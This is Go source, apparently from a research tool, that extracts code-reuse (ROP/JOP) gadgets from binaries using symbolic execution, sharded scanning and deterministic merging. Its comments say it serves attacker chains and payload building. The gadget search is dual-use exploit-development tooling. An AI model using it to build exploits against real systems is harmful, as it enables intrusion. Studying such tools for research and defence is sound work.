		Builder: b,
		ISA:     p.ISA,
		ByReg:   make(map[isa.Reg][]*Gadget, len(p.ByReg)),
		Stats:   p.Stats,
	}
	out.Stats.ByType = make(map[JmpType]int, len(p.Stats.ByType))
	for t, n := range p.Stats.ByType {
		out.Stats.ByType[t] = n
	}
	imp := newEffectImporter(b)
	clones := make(map[*Gadget]*Gadget, len(p.Gadgets))
	out.Gadgets = make([]*Gadget, len(p.Gadgets))
	for i, g := range p.Gadgets {
		cg := *g // Steps/ClobRegs/CtrlRegs are shared immutably
		cg.Effect = imp.effect(g.Effect)
		out.Gadgets[i] = &cg
		clones[g] = &cg
	}
	for _, g := range p.Syscalls {
		out.Syscalls = append(out.Syscalls, clones[g])
	}
	for r, gs := range p.ByReg {
		idx := make([]*Gadget, len(gs))
		for i, g := range gs {
			idx[i] = clones[g]
		}
		out.ByReg[r] = idx
	}
	return out
}
