package gadget

import (
	"fmt"
	"runtime"
	"sort"
	"sync"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Options tune extraction.
type Options struct {
	// MaxInsts caps the instruction count along one gadget path (including
	// merged pieces). Default 40 — the spill-style code generator produces
	// long basic blocks, and useful register loads sit well before the
	// block terminator.
	MaxInsts int
	// MaxForks caps how many conditional jumps a path may pass through.
	// Default 2.
	MaxForks int
	// MaxMerges caps how many direct jumps a path may follow. Default 3.
	MaxMerges int
	// Stride scans every Stride-th byte offset as a potential gadget start.
	// Default 1 (every offset, finding unaligned gadgets).
	Stride int
	// Parallelism is how many workers scan section shards concurrently.
	// 0 selects runtime.GOMAXPROCS(0); 1 scans single-threaded. The result
	// is identical at every worker count: shard boundaries and the merge
	// order depend only on the binary and Stride, never on scheduling.
	Parallelism int
}

// Fingerprint renders the options' semantic fields canonically (defaults
// applied) for content-addressed artifact keys: two Options values with the
// same fingerprint produce byte-identical pools. Parallelism is excluded —
// extraction results are identical at every worker count.
func (o Options) Fingerprint() string {
	o = o.withDefaults()
	return fmt.Sprintf("insts=%d,forks=%d,merges=%d,stride=%d",
		o.MaxInsts, o.MaxForks, o.MaxMerges, o.Stride)
}

func (o Options) withDefaults() Options {
	if o.MaxInsts == 0 {
		o.MaxInsts = 40
	}
	if o.MaxForks == 0 {
		o.MaxForks = 2
	}
	if o.MaxMerges == 0 {
		o.MaxMerges = 3
	}
	if o.Stride == 0 {
		o.Stride = 1
	}
	if o.Parallelism <= 0 {
		o.Parallelism = runtime.GOMAXPROCS(0)
	}
	return o
}

// fetcher resolves code bytes at virtual addresses. It is read-only after
// construction and safe for concurrent use by scan workers.
type fetcher struct {
	secs []*sbf.Section
}

func newFetcher(bin *sbf.Binary) *fetcher {
	return &fetcher{secs: bin.ExecSections()}
}

// at returns the code slice starting at addr, or nil.
func (f *fetcher) at(addr uint64) []byte {
	for _, s := range f.secs {
		if s.Contains(addr) {
			return s.Data[addr-s.Addr:]
		}
	}
	return nil
}

// chunkStrides is how many scan offsets one extraction shard covers. The
// chunk size is fixed (not derived from the worker count) so the shard
// partition — and with it the merge order and every interned node identity —
// is the same no matter how many workers run.
const chunkStrides = 2048

// shardJob is one contiguous scan range [lo, hi) of a section's bytes.
type shardJob struct {
	sec    *sbf.Section
	lo, hi int
}

// shard is one worker unit's output: gadgets whose effects live in the
// shard's private builder, plus local statistics.
type shard struct {
	b       *expr.Builder
	gadgets []*Gadget
	stats   Stats
}

// Extract scans every executable byte offset of bin, walks gadget paths
// (forking at conditional jumps, merging across direct jumps), runs symbolic
// execution on each, and returns the pool of usable gadgets.
//
// The scan is sharded across Options.Parallelism workers. Each worker
// symbolically executes its shard into a private expr.Builder; shards are
// then merged in shard order, re-interning every effect DAG into the pool's
// builder via expr.Import, so the pooled effects satisfy the same
// pointer-equality invariant a sequential scan would produce.
func Extract(bin *sbf.Binary, opts Options) *Pool {
	opts = opts.withDefaults()
	f := newFetcher(bin)

	var jobs []shardJob
	chunkBytes := opts.Stride * chunkStrides
	for _, sec := range f.secs {
		for lo := 0; lo < len(sec.Data); lo += chunkBytes {
			hi := lo + chunkBytes
			if hi > len(sec.Data) {
				hi = len(sec.Data)
			}
			jobs = append(jobs, shardJob{sec: sec, lo: lo, hi: hi})
		}
	}

	shards := make([]*shard, len(jobs))
	workers := opts.Parallelism
	if workers > len(jobs) {
		workers = len(jobs)
	}
	if workers <= 1 {
		for i, job := range jobs {
			shards[i] = scanShard(f, job, opts)
		}
	} else {
		next := make(chan int)
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range next {
					shards[i] = scanShard(f, jobs[i], opts)
				}
			}()
		}
		for i := range jobs {
			next <- i
		}
		close(next)
		wg.Wait()
	}

	// Merge in shard order: statistics sum, and each shard's effect DAGs are
	// re-interned into the pool builder. Both the shard sequence and the
	// field order inside importEffect are fixed, so node identities in the
	// merged builder are deterministic.
	b := expr.NewBuilder()
	pool := &Pool{
		Builder: b,
		ByReg:   make(map[isa.Reg][]*Gadget),
		Stats:   Stats{ByType: make(map[JmpType]int)},
	}
	imp := expr.NewImporter(b)
	var all []*Gadget
	for _, sh := range shards {
		pool.Stats.merge(sh.stats)
		for _, g := range sh.gadgets {
			g.Effect = importEffect(imp, g.Effect)
		}
		all = append(all, sh.gadgets...)
	}
	// Deterministic pool order regardless of sharding: by (addr, len), with
	// the stable sort preserving the walk's emission order for equal keys.
	sort.SliceStable(all, func(i, j int) bool {
		if all[i].Location != all[j].Location {
			return all[i].Location < all[j].Location
		}
		return all[i].Len < all[j].Len
	})
	for _, g := range all {
		fillRecord(b, g)
		pool.add(g)
	}
	return pool
}

// scanShard scans one job's offsets into a fresh shard.
func scanShard(f *fetcher, job shardJob, opts Options) *shard {
	sh := &shard{
		b:     expr.NewBuilder(),
		stats: Stats{ByType: make(map[JmpType]int)},
	}
	// Path keys embed the start address, and shards partition the starts, so
	// a shard-local seen map deduplicates exactly like a global one.
	seen := make(map[string]bool)
	for off := job.lo; off < job.hi; off += opts.Stride {
		sh.stats.ScannedOffsets++
		start := job.sec.Addr + uint64(off)
		walk(f, start, nil, opts, func(steps []symex.Step, end symex.EndKind) {
			sh.stats.RawCandidates++
			sh.stats.ByType[Classify(steps, end)]++
			sh.emit(start, steps, seen)
		})
	}
	return sh
}

// importEffect re-interns an effect's DAGs into the importer's destination
// builder. Fields are visited in a fixed order (registers, next RIP, stack
// writes by ascending offset, memory accesses, conditions) so the
// destination's interning order is deterministic.
func importEffect(imp *expr.Importer, e *symex.Effect) *symex.Effect {
	out := &symex.Effect{
		StackWrites: make(map[int64]symex.Write, len(e.StackWrites)),
		Inputs:      make(map[int64]uint8, len(e.Inputs)),
		StackDelta:  e.StackDelta,
		End:         e.End,
	}
	for r := range e.Regs {
		out.Regs[r] = imp.Import(e.Regs[r])
	}
	out.NextRIP = imp.Import(e.NextRIP)
	offs := make([]int64, 0, len(e.StackWrites))
	for off := range e.StackWrites {
		offs = append(offs, off)
	}
	sort.Slice(offs, func(i, j int) bool { return offs[i] < offs[j] })
	for _, off := range offs {
		w := e.StackWrites[off]
		out.StackWrites[off] = symex.Write{Val: imp.Import(w.Val), Size: w.Size}
	}
	for off, size := range e.Inputs {
		out.Inputs[off] = size
	}
	if len(e.MemReads) > 0 {
		out.MemReads = make([]symex.MemAccess, len(e.MemReads))
		for i, a := range e.MemReads {
			out.MemReads[i] = symex.MemAccess{Addr: imp.Import(a.Addr), Val: imp.Import(a.Val), Size: a.Size}
		}
	}
	if len(e.MemWrites) > 0 {
		out.MemWrites = make([]symex.MemAccess, len(e.MemWrites))
		for i, a := range e.MemWrites {
			out.MemWrites[i] = symex.MemAccess{Addr: imp.Import(a.Addr), Val: imp.Import(a.Val), Size: a.Size}
		}
	}
	out.Conds = imp.ImportAll(e.Conds)
	return out
}

// walk follows one gadget path from addr, invoking found for every complete
// (branch-terminated) path. The steps slice is owned by the caller chain and
// copied on emission.
func walk(f *fetcher, addr uint64, steps []symex.Step, opts Options, found func([]symex.Step, symex.EndKind)) {
	forks, merges := 0, 0
	for _, st := range steps {
		switch {
		case st.Inst.Op == isa.OpJcc:
			forks++
		case st.Inst.Op == isa.OpJmp && st.Inst.A.Kind == isa.KindImm:
			merges++
		}
	}

	for len(steps) < opts.MaxInsts {
		code := f.at(addr)
		if code == nil {
			return
		}
		inst, err := isa.Decode(code, addr)
		if err != nil {
			return
		}

		switch {
		case inst.Op == isa.OpRet:
			found(append(steps, symex.Step{Inst: inst}), symex.EndRet)
			return
		case inst.Op == isa.OpSyscall:
			found(append(steps, symex.Step{Inst: inst}), symex.EndSyscall)
			return
		case inst.Op == isa.OpJmp && inst.A.Kind != isa.KindImm:
			found(append(steps, symex.Step{Inst: inst}), symex.EndJmpInd)
			return
		case inst.Op == isa.OpCall && inst.A.Kind != isa.KindImm:
			found(append(steps, symex.Step{Inst: inst}), symex.EndCallInd)
			return
		case inst.Op == isa.OpJmp: // direct: merge with the target gadget
			if merges >= opts.MaxMerges {
				found(append(steps, symex.Step{Inst: inst}), symex.EndJmpDir)
				return
			}
			merges++
			steps = append(steps, symex.Step{Inst: inst})
			addr = uint64(inst.A.Imm)
		case inst.Op == isa.OpCall: // direct call: follow into the callee
			if merges >= opts.MaxMerges {
				return
			}
			merges++
			steps = append(steps, symex.Step{Inst: inst})
			addr = uint64(inst.A.Imm)
		case inst.Op == isa.OpJcc:
			if forks >= opts.MaxForks {
				// Report the taken-terminal variant for counting, then stop.
				found(append(steps, symex.Step{Inst: inst, Taken: true}), symex.EndJmpDir)
				return
			}
			// Fork: the taken path continues at the target (Fig. 4c), the
			// not-taken path falls through (Fig. 4b).
			taken := append(append([]symex.Step(nil), steps...), symex.Step{Inst: inst, Taken: true})
			walk(f, uint64(inst.A.Imm), taken, opts, found)
			steps = append(steps, symex.Step{Inst: inst, Taken: false})
			addr = inst.End()
			forks++
		case inst.Op == isa.OpHlt || inst.Op == isa.OpInt3:
			return // traps end the path unusably
		default:
			steps = append(steps, symex.Step{Inst: inst})
			addr = inst.End()
		}
	}
}

// pathKey identifies a gadget path for deduplication.
func pathKey(start uint64, steps []symex.Step) string {
	key := make([]byte, 0, 8+len(steps)*9)
	for i := 0; i < 8; i++ {
		key = append(key, byte(start>>(8*i)))
	}
	for _, st := range steps {
		a := st.Inst.Addr
		for i := 0; i < 8; i++ {
			key = append(key, byte(a>>(8*i)))
		}
		if st.Taken {
			key = append(key, 1)
		} else {
			key = append(key, 0)
		}
	}
	return string(key)
}

// emit runs symbolic execution on a complete path and records the gadget in
// the shard if its semantics are supported. The Table II record fields that
// depend on builder node identity (ClobRegs/CtrlRegs) are filled at merge
// time, after the effect is imported into the pool builder.
func (sh *shard) emit(start uint64, steps []symex.Step, seen map[string]bool) {
	// Paths that end in a direct jump are counted but not pooled: their
	// next-RIP is a constant, so they cannot continue an attacker chain
	// (merged variants of them are walked separately).
	last := steps[len(steps)-1]
	if last.Inst.Op == isa.OpJcc ||
		(last.Inst.Op == isa.OpJmp && last.Inst.A.Kind == isa.KindImm) {
		return
	}

	key := pathKey(start, steps)
	if seen[key] {
		return
	}
	seen[key] = true

	eff, err := symex.Exec(sh.b, steps)
	if err != nil {
		sh.stats.Unsupported++
		return
	}
	sh.stats.Supported++

	g := &Gadget{
		Location: start,
		Len:      pathLen(steps),
		JmpType:  Classify(steps, eff.End),
		Steps:    steps,
		Effect:   eff,
	}
	for _, st := range steps {
		if st.Inst.Op == isa.OpJcc {
			g.HasCond = true
		}
		if st.Inst.Op == isa.OpJmp && st.Inst.A.Kind == isa.KindImm {
			g.Merged = true
		}
	}
	if g.Merged {
		sh.stats.MergedGadgets++
	}
	sh.gadgets = append(sh.gadgets, g)
}

// pathLen sums the encoded byte length of the path.
func pathLen(steps []symex.Step) int {
	n := 0
	for _, st := range steps {
		n += int(st.Inst.Len)
	}
	return n
}

// Count performs the cheap classic scan used for Fig. 1 / Table I numbers:
// decode from every byte offset until the first branch instruction and
// classify it. No symbolic execution, no merging, no forking — this mirrors
// what syntactic tools such as ROPGadget count.
func Count(bin *sbf.Binary, maxInsts int) map[JmpType]int {
	if maxInsts == 0 {
		maxInsts = 10
	}
	counts := make(map[JmpType]int)
	for _, sec := range bin.ExecSections() {
		for off := 0; off < len(sec.Data); off++ {
			addr := sec.Addr + uint64(off)
			code := sec.Data[off:]
			pos := 0
			hasCond := false
			for n := 0; n < maxInsts; n++ {
				inst, err := isa.Decode(code[pos:], addr+uint64(pos))
				if err != nil {
					break
				}
				pos += int(inst.Len)
				var t JmpType
				switch {
				case inst.Op == isa.OpRet:
					t = TypeReturn
				case inst.Op == isa.OpSyscall:
					t = TypeSyscall
				case inst.Op == isa.OpJmp && inst.A.Kind == isa.KindImm:
					t = TypeUDJ
					if hasCond {
						t = TypeCDJ
					}
				case (inst.Op == isa.OpJmp || inst.Op == isa.OpCall) && inst.A.Kind != isa.KindImm:
					t = TypeUIJ
					if hasCond {
						t = TypeCIJ
					}
				case inst.Op == isa.OpCall:
					// Direct call: classic scanners stop without counting.
					t = TypeInvalid
				case inst.Op == isa.OpJcc:
					hasCond = true
					continue
				default:
					continue
				}
				if t != TypeInvalid {
					counts[t]++
				}
				break
			}
		}
	}
	return counts
}

// TotalCount sums a Count result.
func TotalCount(counts map[JmpType]int) int {
	n := 0
	for _, c := range counts {
		n += c
	}
	return n
}

// ClonePool deep-copies a pool into a fresh expression builder: every
// gadget record is copied (IDs and immutable slices included) and its
// effect DAG re-interned via expr.Import, walking the gadgets in pool
// order. Index membership (ByReg, Syscalls) is carried over by identity,
// so the clone is indistinguishable from the original to the planner.
//
// Consumers that mutate builder state — payload concretization interns
// fresh nodes for cells, scratch memory, and substitutions — clone per
// consumer so concurrent consumers never share a builder. Because the
// clone is built in a deterministic order, the clone's node identities
// (and everything downstream of them, solver models included) are a
// function of the source pool alone, not of who else used it.
func ClonePool(p *Pool) *Pool {
	b := expr.NewBuilder()
	out := &Pool{
		Builder: b,
		ByReg:   make(map[isa.Reg][]*Gadget, len(p.ByReg)),
		Stats:   p.Stats,
	}
	out.Stats.ByType = make(map[JmpType]int, len(p.Stats.ByType))
	for t, n := range p.Stats.ByType {
		out.Stats.ByType[t] = n
	}
	imp := expr.NewImporter(b)
	clones := make(map[*Gadget]*Gadget, len(p.Gadgets))
	out.Gadgets = make([]*Gadget, len(p.Gadgets))
	for i, g := range p.Gadgets {
		cg := *g // Steps/ClobRegs/CtrlRegs are shared immutably
		cg.Effect = importEffect(imp, g.Effect)
		out.Gadgets[i] = &cg
		clones[g] = &cg
	}
	for _, g := range p.Syscalls {
		out.Syscalls = append(out.Syscalls, clones[g])
	}
	for r, gs := range p.ByReg {
		idx := make([]*Gadget, len(gs))
		for i, g := range gs {
			idx[i] = clones[g]
		}
		out.ByReg[r] = idx
	}
	return out
}
